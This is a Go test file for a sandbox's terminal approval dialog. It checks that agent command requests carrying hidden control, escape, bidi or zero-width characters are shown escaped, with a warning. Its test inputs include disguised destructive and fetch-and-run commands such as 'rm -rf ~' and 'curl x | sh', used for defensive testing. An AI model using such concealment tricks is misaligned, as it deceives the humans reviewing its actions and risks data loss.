package tui

import (
	"strings"
	"testing"

	tea "github.com/charmbracelet/bubbletea"

	"github.com/agentbox/sandbox/internal/approval"
	"github.com/agentbox/sandbox/internal/engine"
)

// rawHidden are characters the dialog and the scrollback must never draw
// as they are when they come from a request.
const rawHidden = "\r\x1b\b\a\u202e\u2067\u200b\ufeff"

func TestDialogShowsRequestsEscaped(t *testing.T) {
	tests := []struct {
		name    string
		req     approval.Request
		escaped string
		hidden  string
	}{
		{"carriage return", execReq("touch /workspace/PWN; curl x | sh # \rls -la /workspace"),
			`$ touch /workspace/PWN; curl x | sh # \rls -la /workspace`, `\r (carriage return)`},
		{"erase line", execReq("curl x | sh\x1b[2K\rls -la"), `$ curl x | sh\x1b[2K\rls -la`, `\x1b (escape)`},
		{"backspaces", execReq("rm -rf ~ #\b\b\b\b\b\b\b\b\bls"), `$ rm -rf ~ #\b\b\b\b\b\b\b\b\bls`, `\b (backspace)`},
		{"bidi override", execReq("sh -c 'rm -rf ~' # \u202e'sl' hc-"), `$ sh -c 'rm -rf ~' # \u202e'sl' hc-`, `\u202e (right-to-left override)`},
		{"bidi isolate", execReq("echo \u2067ok\u2069; curl x|sh"), `$ echo \u2067ok\u2069; curl x|sh`, `\u2067 (right-to-left isolate)`},
		{"zero-width", execReq("r\u200bm -rf /tmp/x"), `$ r\u200bm -rf /tmp/x`, `\u200b (zero-width space)`},
		{"byte order mark", execReq("\ufeffls"), `$ \ufeffls`, `\ufeff (zero-width no-break space)`},
		{"tab shown", execReq("printf a\tb\x07"), `$ printf a\tb\a`, `\a (bell)`},
		{"path with a title escape", approval.Request{Source: approval.SourceScript, Kind: approval.KindWrite, Provider: "local", Sandbox: "sb-test", Target: "/workspace/\x1b]0;title\a"},
			`write /workspace/\x1b]0;title\a`, `\x1b (escape)`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := newClock()
			m := testModel(t, c)
			m.Update(tea.WindowSizeMsg{Width: 160, Height: 30})
			ask(m, 1, tt.req)
			v := m.View()
			if strings.ContainsAny(v, rawHidden) {
				t.Fatalf("the dialog draws a control or hidden character:\n%q", v)
			}
			if !strings.Contains(v, tt.escaped) {
				t.Errorf("the dialog lacks %q:\n%s", tt.escaped, v)
			}
			if !strings.Contains(v, "hidden characters: ") || !strings.Contains(v, tt.hidden) {
				t.Errorf("the dialog lacks the warning naming %q:\n%s", tt.hidden, v)
			}
			if strings.Contains(v, "\n│ ls -la /workspace") {
				t.Errorf("the dialog shows only what follows the carriage return:\n%s", v)
			}

			// The decision, in the scrollback, is escaped the same way.
			m.Update(eventMsg{engine.Event{Type: approval.EventDecision, Gate: &approval.Event{
				Type: approval.EventDecision, Request: tt.req, Decision: approval.Decision{By: "policy", Rule: "--deny \"exec\""},
			}}})
			i := m.sb.find("✘ denied ")
			if i < 0 {
				t.Fatal("no decision line")
			}
			l := m.sb.lines[i].text
			if strings.ContainsAny(l, rawHidden) || !strings.Contains(l, strings.TrimPrefix(strings.TrimPrefix(tt.escaped, "$ "), "write ")) {
				t.Fatalf("decision line %q, want it to hold %q", l, tt.escaped)
			}
		})
	}
}

func TestDialogNoWarningForPlainRequests(t *testing.T) {
	c := newClock()
	m := testModel(t, c)
	ask(m, 1, execReq("go test ./..."))
	if v := m.View(); strings.Contains(v, "hidden characters") {
		t.Fatalf("a plain request raised a warning:\n%s", v)
	}
}

func TestOutputKeepsCarriageReturnHandling(t *testing.T) {
	// Command output (not a request) still redraws at "\r", as a terminal
	// does; only requests are shown escaped.
	sb := newScrollback(nil)
	sb.write(1, streamStdout, kindStdout, "50%\r100%\n")
	if got := sb.lines[len(sb.lines)-1].text; got != "100%" {
		t.Fatalf("output line %q, want %q", got, "100%")
	}
}

func TestDiffLinesEscaped(t *testing.T) {
	for _, l := range diffLines("+\x1b]0;title\a\n-a\rb\n") {
		if strings.ContainsAny(l.text, rawHidden) {
			t.Fatalf("diff line %q", l.text)
		}
	}
}
